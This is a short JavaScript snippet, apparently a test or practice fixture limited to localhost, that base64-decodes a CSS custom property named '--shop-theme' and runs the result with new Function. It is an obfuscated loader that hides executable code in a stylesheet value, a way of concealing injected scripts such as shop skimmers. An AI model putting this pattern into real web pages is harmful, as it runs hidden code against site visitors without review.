/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const text = getComputedStyle(document.documentElement).getPropertyValue('--shop-theme');
  new Function(atob(text.replace(/[" ]/g, '')))();
})();
